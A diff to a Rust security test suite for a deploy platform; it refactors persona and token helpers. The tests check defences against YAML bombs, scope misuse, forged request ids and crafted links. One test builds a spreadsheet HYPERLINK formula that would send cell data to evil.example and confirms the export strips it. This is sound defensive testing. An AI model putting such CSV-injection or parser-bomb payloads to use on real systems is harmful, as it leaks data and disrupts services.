@@ -1,7 +1,7 @@
 //! What a security review found (issue 13), each as the attack it describes: parser bombs,
 //! token scopes on approvals, service tokens as their own actor, forged request ids, payloads
 //! that amplify into every inbox, and tier 0 through the importer.
-use crate::helpers::{eventually, spawn_app_with, Browser, Options, TestApp};
+use crate::helpers::{Browser, Options, Persona, TestApp, eventually, spawn_app_with};
 use serde_json::{json, Value};
 use sqlx::Row;
 use uuid::Uuid;
@@ -20,28 +20,9 @@ async fn import(app: &TestApp, token: &str, files: Vec<(&str, String)>, apply: b
     app.client.post(app.url(&format!("/api/v1/catalog/import{query}"))).bearer_auth(token).multipart(form).send().await.expect("import")
 }
 
-/// A new token of `browser`'s, with `scopes` (and for a service token, `team`).
-async fn token(browser: &Browser, name: &str, scopes: &[&str], team: Option<&str>) -> String {
-    let mut form: Vec<(&str, &str)> = vec![("name", name), ("days", "30")];
-    form.extend(scopes.iter().map(|s| (*s, "on")));
-    if let Some(t) = team {
-        form.push(("team", t));
-    }
-    let r = browser.server_fn("iam/create-token", &form).await;
-    assert_eq!(r.status(), 200, "token {name}");
-    r.json::<Value>().await.expect("json")["secret"].as_str().expect("secret").to_owned()
-}
-
 /// Kicks off a deploy of `service` to `environment` from `b`'s signed-in browser, keyed `key`.
 async fn kick_off(b: &Browser, key: &str, service: &str, environment: &str) -> reqwest::Response {
-    b.client
-        .post(b.url("/api/v1/deploys"))
-        .header("origin", b.url(""))
-        .header("idempotency-key", key)
-        .json(&json!({ "service": service, "environment": environment, "version": "v1", "reason": "security test" }))
-        .send()
-        .await
-        .expect("deploy")
+    b.kick_off(key, &json!({ "service": service, "environment": environment, "version": "v1", "reason": "security test" })).await
 }
 
 async fn error_of(r: reqwest::Response) -> (u16, String, String) {
@@ -55,8 +36,8 @@ const DOMAIN: &str = "apiVersion: backstage.io/v1alpha1\nkind: Domain\nmetadata:
 #[tokio::test]
 async fn yaml_bombs_are_refused_naming_the_limit_while_the_server_answers_others() {
     let app = app().await;
-    let dave = app.login_as("dave").await; // a viewer: a dry run needs only `read`
-    let reader = token(&dave, "reader", &["read"], None).await;
+    let dave = app.login_as(Persona::Viewer).await; // a viewer: a dry run needs only `read`
+    let reader = dave.token("reader", &["read"], None).await;
     let nesting = "[".repeat(1_900_000);
     let anchor = format!("a: &big \"{}\"\nb: [{}]\n", "x".repeat(100_000), vec!["*big"; 2_000].join(", "));
     let documents = "---\n".repeat(20_000);
@@ -99,8 +80,8 @@ async fn yaml_bombs_are_refused_naming_the_limit_while_the_server_answers_others
 #[tokio::test]
 async fn an_import_over_its_size_limits_is_a_413_naming_the_limit() {
     let app = app().await;
-    let dave = app.login_as("dave").await;
-    let reader = token(&dave, "reader", &["read"], None).await;
+    let dave = app.login_as(Persona::Viewer).await;
+    let reader = dave.token("reader", &["read"], None).await;
     let many: Vec<(&str, String)> = (0..5_001).map(|_| ("x.yaml", String::new())).collect();
     let (status, _, message) = error_of(import(&app, &reader, many, false).await).await;
     assert_eq!(status, 413, "{message}");
@@ -139,23 +120,23 @@ async fn decide(app: &TestApp, token: &str, approval: &str) -> u16 {
 #[tokio::test]
 async fn a_leads_token_decides_only_with_the_scope_the_change_needs() {
     let app = app().await;
-    let alice = app.login_as("alice").await;
-    let bob = app.login_as("bob").await; // lead of payments
-    let ci = token(&alice, "ci", &["read", "deploy"], Some("payments")).await;
+    let alice = app.login_as(Persona::Admin).await;
+    let bob = app.login_as(Persona::PaymentsLead).await; // lead of payments
+    let ci = alice.token("ci", &["read", "deploy"], Some("payments")).await;
     let (_, approval) = production_deploy(&app, &ci).await;
-    let read_only = token(&bob, "reader", &["read"], None).await;
-    let writer = token(&bob, "writer", &["write"], None).await;
+    let read_only = bob.token("reader", &["read"], None).await;
+    let writer = bob.token("writer", &["write"], None).await;
     assert_eq!(decide(&app, &read_only, &approval).await, 403, "a read-only token approved a production deploy");
     assert_eq!(decide(&app, &writer, &approval).await, 403, "a deploy needs the deploy scope to approve");
-    let deployer = token(&bob, "deployer", &["read", "deploy"], None).await;
+    let deployer = bob.token("deployer", &["read", "deploy"], None).await;
     assert_eq!(decide(&app, &deployer, &approval).await, 200);
 }
 
 #[tokio::test]
 async fn a_service_token_acts_as_itself_not_as_the_admin_who_made_it() {
     let app = app().await;
-    let alice = app.login_as("alice").await;
-    let ci = token(&alice, "ci", &["read", "deploy"], Some("payments")).await;
+    let alice = app.login_as(Persona::Admin).await;
+    let ci = alice.token("ci", &["read", "deploy"], Some("payments")).await;
     // fees-engine is ledger's: nothing of payments', so its token has no say over its deploys
     let ask = json!({ "service": "fees-engine", "environment": "dev", "version": "v8", "reason": "release" });
     let kick = |who: reqwest::RequestBuilder| who.header("idempotency-key", "release-v8").json(&ask).send();
@@ -202,7 +183,7 @@ async fn a_service_token_acts_as_itself_not_as_the_admin_who_made_it() {
 #[tokio::test]
 async fn a_forged_request_id_is_replaced_and_never_reaches_the_csv() {
     let app = app().await;
-    let alice = app.login_as("alice").await;
+    let alice = app.login_as(Persona::Admin).await;
     let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")";
     let r = alice
         .client
@@ -233,9 +214,9 @@ async fn a_forged_request_id_is_replaced_and_never_reaches_the_csv() {
 #[tokio::test]
 async fn large_payloads_stay_out_of_lists_and_one_person_has_few_requests_open() {
     let app = app().await;
-    let dave = app.login_as("dave").await;
-    let alice = app.login_as("alice").await;
-    let writer = token(&dave, "writer", &["read", "write"], None).await;
+    let dave = app.login_as(Persona::Viewer).await;
+    let alice = app.login_as(Persona::Admin).await;
+    let writer = dave.token("writer", &["read", "write"], None).await;
     let padded = format!("{DOMAIN}# {}\n", "padding ".repeat(20_000));
     let first = import(&app, &writer, vec![("catalog-info.yaml", padded.clone())], true).await;
     let report: Value = first.json().await.expect("json");
@@ -259,8 +240,8 @@ async fn large_payloads_stay_out_of_lists_and_one_person_has_few_requests_open()
 #[tokio::test]
 async fn tier_zero_through_the_importer_needs_two_approvals_even_from_an_admin() {
     let app = app().await;
-    let alice = app.login_as("alice").await;
-    let admin = token(&alice, "admin", &["admin"], None).await;
+    let alice = app.login_as(Persona::Admin).await;
+    let admin = alice.token("admin", &["admin"], None).await;
     let component = "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: vault-two\n  annotations: {switchyard.dev/tier: '0'}\nspec: {type: service, lifecycle: production, owner: ledger}\n";
     let r = import(&app, &admin, vec![("catalog-info.yaml", component.into())], true).await;
     let report: Value = r.json().await.expect("json");
@@ -281,9 +262,9 @@ async fn tier_zero_through_the_importer_needs_two_approvals_even_from_an_admin()
 #[tokio::test]
 async fn a_service_with_deploys_is_refused_deletion_with_the_reason_not_a_500() {
     let app = app().await;
-    let alice = app.login_as("alice").await;
-    let bob = app.login_as("bob").await;
-    let admin = token(&alice, "admin", &["admin"], None).await;
+    let alice = app.login_as(Persona::Admin).await;
+    let bob = app.login_as(Persona::PaymentsLead).await;
+    let admin = alice.token("admin", &["admin"], None).await;
     let leaf = "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: leaf-svc\n  annotations: {switchyard.dev/tier: '3'}\nspec: {type: service, lifecycle: production, owner: payments}\n";
     let report: Value = import(&app, &admin, vec![("catalog-info.yaml", leaf.into())], true).await.json().await.expect("json");
     assert_eq!(report["applied"], true, "{report}");
@@ -299,8 +280,8 @@ async fn a_service_with_deploys_is_refused_deletion_with_the_reason_not_a_500() 
 #[tokio::test]
 async fn histories_show_where_a_change_came_from_to_admins_only() {
     let app = app().await;
-    let alice = app.login_as("alice").await;
-    let dave = app.login_as("dave").await;
+    let alice = app.login_as(Persona::Admin).await;
+    let dave = app.login_as(Persona::Viewer).await;
     let made = alice
         .client
         .post(alice.url("/api/iam/create-team"))
@@ -326,7 +307,7 @@ async fn histories_show_where_a_change_came_from_to_admins_only() {
 #[tokio::test]
 async fn pages_allow_only_their_own_scripts_and_every_response_carries_the_browser_headers() {
     let app = app().await;
-    let dave = app.login_as("dave").await;
+    let dave = app.login_as(Persona::Viewer).await;
     let page = dave.get("/catalog").await;
     assert_eq!(page.status(), 200);
     let header = |r: &reqwest::Response, name: &str| r.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
@@ -379,8 +360,8 @@ async fn expired_sessions_are_purged_and_a_started_sign_in_is_short_lived() {
 #[tokio::test]
 async fn a_personal_token_stops_when_its_owner_has_not_signed_in_for_the_idle_limit() {
     let app = app().await;
-    let bob = app.login_as("bob").await;
-    let secret = token(&bob, "laptop", &["read"], None).await;
+    let bob = app.login_as(Persona::PaymentsLead).await;
+    let secret = bob.token("laptop", &["read"], None).await;
     let me = |s: &str| app.client.get(app.url("/api/v1/me")).bearer_auth(s.to_owned()).send();
     assert_eq!(me(&secret).await.expect("me").status(), 200);
     sqlx::query("UPDATE users SET last_login_at = now() - interval '31 days' WHERE username = 'bob'")
@@ -391,14 +372,14 @@ async fn a_personal_token_stops_when_its_owner_has_not_signed_in_for_the_idle_li
     assert_eq!(refused.status(), 401, "a token of someone gone a month still works");
     let body: Value = refused.json().await.expect("json");
     assert!(body["error"]["message"].as_str().unwrap_or("").contains("has not signed in for too long"), "{body}");
-    app.login_as("bob").await;
+    app.login_as(Persona::PaymentsLead).await;
     assert_eq!(me(&secret).await.expect("me").status(), 200, "signing in again revives it");
 }
 
 #[tokio::test]
 async fn a_live_deploy_stream_ends_with_its_session_and_one_session_holds_only_a_few() {
     let app = app().await;
-    let bob = app.login_as("bob").await;
+    let bob = app.login_as(Persona::PaymentsLead).await;
     let kicked = kick_off(&bob, "stream-1", "refunds", "production").await;
     let id = kicked.json::<Value>().await.expect("json")["id"].as_str().expect("id").to_owned();
     let mut open = Vec::new();
@@ -426,7 +407,7 @@ async fn a_checkpoint_shows_rows_cut_off_a_chain_and_a_stripe_removed() {
     use app::audit::types::ChainCheck;
     use sqlx::Executor;
     let app = app().await;
-    app.login_as("bob").await;
+    app.login_as(Persona::PaymentsLead).await;
     let pool = app.pool();
     let cp = audit::checkpoint(&pool).await.expect("checkpoint");
     assert!(cp.is_some(), "a first checkpoint");
@@ -456,7 +437,7 @@ async fn a_checkpoint_shows_rows_cut_off_a_chain_and_a_stripe_removed() {
 #[tokio::test]
 async fn a_crafted_link_fills_in_no_import_and_no_freeze_override() {
     let app = app().await;
-    let alice = app.login_as("alice").await;
+    let alice = app.login_as(Persona::Admin).await;
     let planted = "PLANTED-BY-A-LINK";
     let page = alice.get(&format!("/catalog/import?content={planted}&report=%7B%7D&error={planted}")).await.text().await.expect("page");
     assert!(!page.contains(planted), "the import page took text from its address");
@@ -484,8 +465,8 @@ async fn a_crafted_link_fills_in_no_import_and_no_freeze_override() {
 #[tokio::test]
 async fn people_who_share_a_name_are_never_mistaken_for_each_other() {
     let app = app().await;
-    let alice = app.login_as("alice").await;
-    app.login_as("carol").await;
+    let alice = app.login_as(Persona::Admin).await;
+    app.login_as(Persona::LedgerMember).await;
     sqlx::query("INSERT INTO users (issuer, subject, username, email, name) VALUES ('https://other-idp.example', 'x-42', 'carol', 'carol@other.example', 'Another Carol')")
         .execute(&mut app.db().await)
         .await
@@ -510,7 +491,7 @@ async fn people_who_share_a_name_are_never_mistaken_for_each_other() {
 #[tokio::test]
 async fn the_deploy_list_tells_requesters_apart_by_id() {
     let app = app().await;
-    let bob = app.login_as("bob").await;
+    let bob = app.login_as(Persona::PaymentsLead).await;
     let kicked: Value = kick_off(&bob, "by-id-1", "refunds", "dev").await.json().await.expect("json");
     let bob_id = kicked["requester_id"].as_str().expect("the requester's id").to_owned();
     // another "bob", from another directory
@@ -524,7 +505,7 @@ async fn the_deploy_list_tells_requesters_apart_by_id() {
     let page = bob.get("/deploys").await.text().await.expect("page");
     assert!(page.contains(&format!("/deploys?requester={bob_id}")), "the list links requesters by id");
     // and the audit log's actor filter takes the id too
-    let alice = app.login_as("alice").await;
+    let alice = app.login_as(Persona::Admin).await;
     let rows: Value = alice.server_fn("audit/search", &[("actor", bob_id.as_str())]).await.json().await.expect("json");
     let entries = rows["entries"].as_array().cloned().unwrap_or_default();
     assert!(!entries.is_empty() && entries.iter().all(|e| e["actor_id"] == bob_id.as_str()), "{rows}");
